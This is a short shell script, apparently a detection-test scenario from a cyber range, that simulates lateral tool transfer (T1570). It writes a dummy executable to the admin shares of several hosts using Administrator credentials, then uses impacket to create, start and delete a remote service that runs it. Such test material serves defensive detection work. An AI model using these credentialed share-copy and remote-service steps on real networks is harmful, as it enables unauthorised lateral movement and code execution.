# SPDX-License-Identifier: Apache-2.0
# what: a program copied to the admin shares of three hosts and started where that works
# technique: T1570
# from: ws1
# to: fs1
# accused: ws1,win1
# account: Administrator
# outcome: success
# must: alert share,rpc,chain
. "$RANGE_HERE/item.sh"
cd "$HOME"
{ printf 'MZ'; head -c 20000 /dev/urandom; } >winupd.exe
for h in $dc1 $fs1; do
	smbclient //$h/ADMIN\$ -U "CORP\\Administrator%$ADMIN_PASSWORD" -c 'put winupd.exe Temp\winupd.exe' || exit 1
	smbclient //$h/C\$ -U "CORP\\Administrator%$ADMIN_PASSWORD" -c 'put winupd.exe Users\winupd.exe' || exit 1
done
printf 'use ADMIN$\nput winupd.exe\nexit\n' >"$HOME/do"
impacket smbclient -file "$HOME/do" "CORP/Administrator:$ADMIN_PASSWORD@$win1"
for h in $win1 $fs1; do
	impacket services "CORP/Administrator:$ADMIN_PASSWORD@$h" create -name winupd -display winupd -path 'C:\Windows\winupd.exe'
	impacket services "CORP/Administrator:$ADMIN_PASSWORD@$h" start -name winupd
	impacket services "CORP/Administrator:$ADMIN_PASSWORD@$h" delete -name winupd
done
true
